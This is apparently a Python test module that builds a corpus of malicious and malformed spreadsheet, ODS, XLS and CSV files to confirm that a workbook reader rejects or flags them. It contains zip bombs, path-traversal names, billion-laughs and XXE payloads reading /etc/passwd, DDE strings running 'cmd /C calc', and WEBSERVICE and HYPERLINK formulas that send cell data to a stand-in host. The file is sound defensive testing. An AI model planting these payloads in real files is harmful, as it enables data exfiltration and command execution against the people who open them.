"""A corpus of hostile and broken inputs, generated from the example workbook and write-up.

Each case is built in code (no binaries in the repository): zip surgery on the
canonical example, XML payloads (entity bombs, XXE, a merged range over the whole
sheet), formulas that reach outside, text meant to run as a formula downstream,
and broken legacy files. `expect` is the code the reader refuses it with, or
None when the file opens (perhaps with notices: `notices`). Run
`python -m tests.hostile_corpus DIR` to write the corpus out for manual poking.
"""

from __future__ import annotations

import io
import random
import re
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests.hostile_legacy import (
    csv_assessment,
    ods_empty_repeats,
    ods_repeat_bomb,
    ods_span_bomb,
    xls_merge_bomb,
)

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "examples" / "llmops-engineer.xlsx"
WRITEUP = ROOT / "examples" / "llmops-engineer.txt"
NOTES_SHEET = "xl/worksheets/sheet9.xml"  # the ninth sheet in layout order: Notes
ROLE_SHEET = "xl/worksheets/sheet1.xml"
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
HOSTILE_TITLE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"


@dataclass(frozen=True)
class HostileCase:
    name: str
    kind: str
    build: Callable[[], bytes]
    suffix: str = ".xlsx"
    expect: str | None = None
    notices: tuple[str, ...] = field(default_factory=tuple)

    @property
    def file_name(self) -> str:
        return self.name + self.suffix


def example_bytes() -> bytes:
    return EXAMPLE.read_bytes()


def rezip(base: bytes, replace: dict[str, bytes] | None = None,
          add: list[tuple[str | zipfile.ZipInfo, bytes]] | None = None,
          method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A copy of archive `base` with members replaced and added (duplicates allowed)."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as source, \
            zipfile.ZipFile(out, "w", method) as target:
        for info in source.infolist():
            data = replace.get(info.filename, source.read(info))
            target.writestr(info.filename, data)
        for name, data in add or []:
            import warnings
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")  # duplicate names are the point of some cases
                target.writestr(name, data)
    return out.getvalue()


def member(name: str) -> bytes:
    with zipfile.ZipFile(EXAMPLE) as archive:
        return archive.read(name)


def edit_sheet(sheet: str, old: str, new: str) -> bytes:
    xml = member(sheet).decode()
    assert old in xml, (sheet, old)
    return rezip(example_bytes(), {sheet: xml.replace(old, new, 1).encode()})


def with_after_sheet_data(sheet: str, element: str) -> bytes:
    """Insert an element right after </sheetData> (where mergeCells and hyperlinks go)."""
    return edit_sheet(sheet, "</sheetData>", "</sheetData>" + element)


def with_cell(sheet: str, ref: str, cell_xml: str) -> bytes:
    """Append a row holding one extra cell at the end of sheetData."""
    row = int("".join(ch for ch in ref if ch.isdigit()))
    return edit_sheet(sheet, "</sheetData>", f'<row r="{row}">{cell_xml}</row></sheetData>')


def patch_central(data: bytes, name: str, offset: int, fmt: str, value: int) -> bytes:
    """Overwrite one field of `name`'s central-directory record (flags, sizes...)."""
    raw = bytearray(data)
    needle = name.encode()
    position = 0
    while True:
        position = raw.index(b"PK\x01\x02", position)
        name_length = struct.unpack_from("<H", raw, position + 28)[0]
        if bytes(raw[position + 46: position + 46 + name_length]) == needle:
            struct.pack_into(fmt, raw, position + offset, value)
            return bytes(raw)
        position += 4


def zip_bomb() -> bytes:
    return rezip(example_bytes(), add=[("xl/media/padding.bin", bytes(24 * 1024 * 1024))])


def lying_sizes() -> bytes:
    big = rezip(example_bytes(), add=[("xl/media/blob.bin", bytes(3 * 1024 * 1024))])
    return patch_central(big, "xl/media/blob.bin", 24, "<I", 100)  # declared size: 100 bytes


def many_members() -> bytes:
    return rezip(example_bytes(), add=[(f"xl/junk/{i}.xml", b"<a/>") for i in range(1_200)])


def encrypted_member() -> bytes:
    return patch_central(example_bytes(), "xl/styles.xml", 8, "<H", 0x1)


def other_compression() -> bytes:
    base = example_bytes()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            method = zipfile.ZIP_BZIP2 if info.filename == "xl/styles.xml" else \
                zipfile.ZIP_DEFLATED
            target.writestr(info.filename, source.read(info), compress_type=method)
    return out.getvalue()


def _laugh(level: int) -> str:
    previous = "&lol" + (str(level - 1) if level > 1 else "") + ";"
    return f'<!ENTITY lol{level} "{previous * 10}">'


BILLION_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + "".join(_laugh(level) for level in range(1, 10)) + "]>")


def with_doctype(sheet: str, doctype: str, old: str, new: str) -> bytes:
    """`sheet` prefixed by an XML declaration and `doctype`, with text `old` replaced."""
    xml = member(sheet).decode()
    assert old in xml, (sheet, old)
    payload = '<?xml version="1.0"?>' + doctype + xml.replace(old, new, 1)
    return rezip(example_bytes(), {sheet: payload.encode()})


def billion_laughs() -> bytes:
    return with_doctype(NOTES_SHEET, BILLION_LAUGHS.removeprefix('<?xml version="1.0"?>'),
                        "<t>Notes</t>", "<t>&lol9;</t>")


def external_entity(target: str = "file:///etc/passwd") -> bytes:
    return with_doctype(ROLE_SHEET, f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "{target}">]>',
                        "<t>Role Definition</t>", "<t>&xxe;</t>")


def internal_entity(text: str = "EXPANDED-BY-THE-PARSER", repeat: int = 1) -> bytes:
    """An entity in Role!A1: shows whether the XML parser expands entities at all.

    With a long `text` and many repeats it is a quadratic blow-up: 500 KB of XML
    (a few KB zipped) becomes a 45 MB cell, under expat's own amplification guard.
    """
    return with_doctype(ROLE_SHEET, f'<!DOCTYPE worksheet [<!ENTITY e "{text}">]>',
                        "<t>Role Definition</t>", "<t>" + "&e;" * repeat + "</t>")


def utf16_part() -> bytes:
    xml = member(NOTES_SHEET).decode()
    return rezip(example_bytes(), {NOTES_SHEET: ('<?xml version="1.0" encoding="UTF-16"?>'
                                                 + xml).encode("utf-16")})


def ebcdic_declared() -> bytes:
    xml = member(NOTES_SHEET).decode()
    return rezip(example_bytes(), {NOTES_SHEET: b'<?xml version="1.0" encoding="cp500"?>'
                                   + xml.encode("cp500", "replace")})


def too_many_sheets() -> bytes:
    sheets = "".join(f'<sheet name="S{i}" sheetId="{100 + i}" r:id="rId9"/>' for i in range(80))
    return edit_sheet("xl/workbook.xml", "</sheets>", sheets + "</sheets>")


def fan_out() -> bytes:
    """Two hundred drawing relationships to one 1 MB drawing: read two hundred times."""
    rels = member("xl/worksheets/_rels/sheet7.xml.rels").decode()
    extra = "".join(f'<Relationship Id="rIdX{i}" Type="http://schemas.openxmlformats.org/'
                    f'officeDocument/2006/relationships/drawing" Target="/xl/drawings/'
                    f'drawing1.xml"/>' for i in range(200))
    drawing = member("xl/drawings/drawing1.xml").decode()
    noise = random.Random(7).randbytes(550_000).hex()  # incompressible: no ratio refusal
    padded = drawing.replace("</wsDr>", f"<!--{noise}--></wsDr>")
    return rezip(example_bytes(), {
        "xl/worksheets/_rels/sheet7.xml.rels": rels.replace("</Relationships>",
                                                            extra + "</Relationships>").encode(),
        "xl/drawings/drawing1.xml": padded.encode()})


def many_drawn_objects() -> bytes:
    drawing = member("xl/drawings/drawing1.xml").decode()
    start = drawing.index("<oneCellAnchor>")
    end = drawing.rindex("</wsDr>")
    anchors = drawing[start:end] * 1_500
    return rezip(example_bytes(), {"xl/drawings/drawing1.xml":
                                   (drawing[:start] + anchors + drawing[end:]).encode()})


def vba_project() -> bytes:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"Attribute VB_Name = \"Evil\""
    return rezip(example_bytes(), add=[("xl/vbaProject.bin", ole)])


def dde_link() -> bytes:
    link = (f'<externalLink xmlns="{MAIN_NS}"><ddeLink ddeService="cmd" ddeTopic="/c calc">'
            '<ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>')
    return rezip(example_bytes(), add=[("xl/externalLinks/externalLink1.xml", link.encode())])


def formula_cell(formula: str) -> Callable[[], bytes]:
    """The example with Notes!D40 holding `formula` (stored, as OOXML does, without its '=')."""
    escaped = formula.removeprefix("=").replace("&", "&amp;").replace("<", "&lt;")
    return lambda: with_cell(NOTES_SHEET, "D40", f'<c r="D40"><f>{escaped}</f></c>')


SHEET_FILES = {"Role": ROLE_SHEET, "Tasks": "xl/worksheets/sheet3.xml", "Notes": NOTES_SHEET}


def xml_escaped(text: str) -> str:
    """Text for XML element content; tab and CR as references so parsers keep them."""
    return (text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            .replace("\t", "&#9;").replace("\r", "&#13;"))


def with_texts(changes: dict[tuple[str, str], str], base: bytes | None = None) -> bytes:
    """The example with text cells replaced: {("Tasks", "A4"): "=cmd|..."}, as a file holds them.

    Written as inline strings straight into the XML, the way a hostile file would carry
    them (openpyxl itself would turn a leading `=` into a formula).
    """
    base = base if base is not None else example_bytes()
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        sheets = {name: archive.read(SHEET_FILES[name]).decode() for name, _ in changes}
    for (name, ref), text in changes.items():
        xml = sheets[name]
        start = xml.index(f'<c r="{ref}"')
        self_closing = xml.index(">", start)
        end = self_closing + 1 if xml[self_closing - 1] == "/" else \
            xml.index("</c>", start) + len("</c>")
        style = re.search(r'\ss="\d+"', xml[start:self_closing])
        cell = (f'<c r="{ref}"{style.group(0) if style else ""} t="inlineStr"><is>'
                f'<t xml:space="preserve">{xml_escaped(text)}</t></is></c>')
        sheets[name] = xml[:start] + cell + xml[end:]
    return rezip(base, {SHEET_FILES[name]: xml.encode() for name, xml in sheets.items()})


def hostile_title(title: str) -> Callable[[], bytes]:
    """The example with a role title meant to run as a formula in whatever reads the output."""
    return lambda: with_texts({("Role", "B4"): title})


def ole2_file() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048)


def truncated() -> bytes:
    data = example_bytes()
    return data[: len(data) // 2]


CASES: tuple[HostileCase, ...] = (
    HostileCase("zip-bomb", "zip bomb (24 MiB of zeros in 24 KB)", zip_bomb, expect="JZ014"),
    HostileCase("lying-sizes", "member larger than its declared size", lying_sizes,
                expect="JZ004"),
    HostileCase("many-members", "1,200 archive members", many_members, expect="JZ011"),
    HostileCase("traversal-name", "member named ../../evil.xml",
                lambda: rezip(example_bytes(), add=[("../../evil.xml", b"<a/>")]),
                expect="JZ012"),
    HostileCase("absolute-name", "member named /etc/cron.d/x",
                lambda: rezip(example_bytes(), add=[("/etc/cron.d/x", b"<a/>")]),
                expect="JZ012"),
    HostileCase("stuffed-folder", "a folder entry holding 24 MiB of zeros (no scan reads it)",
                lambda: rezip(example_bytes(), add=[("xl/media/", bytes(24 * 1024 * 1024))]),
                expect="JZ012"),
    HostileCase("duplicate-member", "the same member name twice",
                lambda: rezip(example_bytes(), add=[("xl/styles.xml", b"<a/>")]),
                expect="JZ012"),
    HostileCase("encrypted-member", "encrypted archive member", encrypted_member,
                expect="JZ013"),
    HostileCase("bzip2-member", "member compressed with bzip2", other_compression,
                expect="JZ013"),
    HostileCase("billion-laughs", "XML entity expansion (billion laughs)", billion_laughs,
                expect="JZ016"),
    HostileCase("xxe", "XML external entity (file:///etc/passwd)", external_entity,
                expect="JZ016"),
    HostileCase("utf16-part", "UTF-16 encoded worksheet", utf16_part, expect="JZ017"),
    HostileCase("ebcdic-part", "worksheet declared as EBCDIC (cp500)", ebcdic_declared,
                expect="JZ017"),
    HostileCase("merge-bomb", "merged range A1:XFD1048576 (17 billion cells)",
                lambda: with_after_sheet_data(
                    NOTES_SHEET, '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/>'
                    "</mergeCells>"), expect="JZ018"),
    HostileCase("hyperlink-bomb", "hyperlink over A1:XFD1048576",
                lambda: with_after_sheet_data(
                    NOTES_SHEET, '<hyperlinks><hyperlink ref="A1:XFD1048576" '
                    'location="Notes!A1"/></hyperlinks>'),
                expect="JZ018"),
    HostileCase("far-row", "a cell at row 1,048,576",
                lambda: with_cell(NOTES_SHEET, "A1048576",
                                  '<c r="A1048576" t="inlineStr"><is><t>x</t></is></c>'),
                expect="JZ018"),
    HostileCase("long-string", "a 40,000-character cell",
                lambda: with_cell(NOTES_SHEET, "B60", '<c r="B60" t="inlineStr"><is><t>'
                                  + "A" * 40_000 + "</t></is></c>"), expect="JZ019"),
    HostileCase("too-many-sheets", "80 sheets declared", too_many_sheets, expect="JZ018"),
    HostileCase("fan-out", "one 1 MB part referenced 200 times", fan_out, expect="JZ018"),
    HostileCase("many-charts", "1,500 chart anchors", many_drawn_objects, expect="JZ018"),
    HostileCase("vba-macros", "VBA project (vbaProject.bin)", vba_project,
                notices=("JZ032",)),
    HostileCase("dde-link", "DDE link part (cmd /c calc)", dde_link,
                notices=("JZ030", "JZ031")),
    HostileCase("dde-formula", "DDE formula =cmd|' /C calc'!A0",
                formula_cell("=cmd|' /C calc'!A0"), notices=("JZ031",)),
    HostileCase("webservice-formula", "WEBSERVICE formula",
                formula_cell('=WEBSERVICE("http://evil.example/?"&Role!B4)'),
                notices=("JZ033",)),
    HostileCase("external-ref-formula", "formula referencing another workbook",
                formula_cell("='C:\\secrets\\[pay.xlsx]Sheet1'!A1"), notices=("JZ030",)),
    HostileCase("formula-title", "role title that is a formula (=HYPERLINK...)",
                hostile_title(HOSTILE_TITLE)),
    HostileCase("traversal-title", "role title ../../../etc/passwd (output name)",
                hostile_title("../../../etc/passwd")),
    HostileCase("ods-repeat-bomb", "ODS with 10,000 x 9,999 repeated filled cells",
                ods_repeat_bomb, suffix=".ods", expect="JZ018"),
    HostileCase("ods-empty-repeats", "ODS with a million repeated empty rows (as LibreOffice "
                "writes)", ods_empty_repeats, suffix=".ods"),
    HostileCase("ods-span-bomb", "ODS cell spanning A1:XFD1048576", ods_span_bomb,
                suffix=".ods", expect="JZ018"),
    HostileCase("xls-merge-bomb", ".xls with one merged range over 4 million cells",
                xls_merge_bomb, suffix=".xls"),
    HostileCase("csv-injection", "CSV export with formula and DDE payloads in its text",
                lambda: csv_assessment("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example")',
                                       "@SUM(1)+cmd|' /C calc'!A0"), suffix=".csv"),
    HostileCase("csv-nul", "CSV holding NUL bytes", lambda: csv_assessment() + b"\x00" * 64,
                suffix=".csv"),
    HostileCase("csv-huge-field", "CSV with a 300,000-character field",
                lambda: csv_assessment(rationale="x" * 300_000), suffix=".csv"),
    HostileCase("csv-bad-utf8", "CSV that is not UTF-8",
                lambda: csv_assessment(title="Ingénieur").replace(b"\xc3\xa9", b"\xe9\xff"),
                suffix=".csv"),
    HostileCase("writeup-binary", "write-up of random bytes",
                lambda: random.Random(3).randbytes(4096), suffix=".txt"),
    HostileCase("writeup-broken-tables", "write-up whose tables lost their columns",
                lambda: "\n".join(line.rsplit("|", 3)[0] if line.startswith("|") else line
                                   for line in WRITEUP.read_text("utf-8").splitlines()).encode(),
                suffix=".md"),
    HostileCase("xls-junk", "OLE2 header and junk named .xls", ole2_file, suffix=".xls"),
    HostileCase("empty", "empty file", lambda: b"", expect="JZ004"),
    HostileCase("not-zip", "text renamed .xlsx", lambda: b"name,score\nx,1\n", expect="JZ004"),
    HostileCase("truncated", "half of a workbook", truncated, expect="JZ004"),
    HostileCase("ole2", "password-protected / OLE2 file", ole2_file, expect="JZ005"),
)


def write_corpus(directory: Path, cases: tuple[HostileCase, ...] = CASES) -> dict[str, Path]:
    """Write every case into `directory`; returns case name -> path."""
    directory.mkdir(parents=True, exist_ok=True)
    paths = {}
    for case in cases:
        path = directory / case.file_name
        path.write_bytes(case.build())
        paths[case.name] = path
    return paths


if __name__ == "__main__":
    written = write_corpus(Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus"))
    print(f"wrote {len(written)} hostile files")
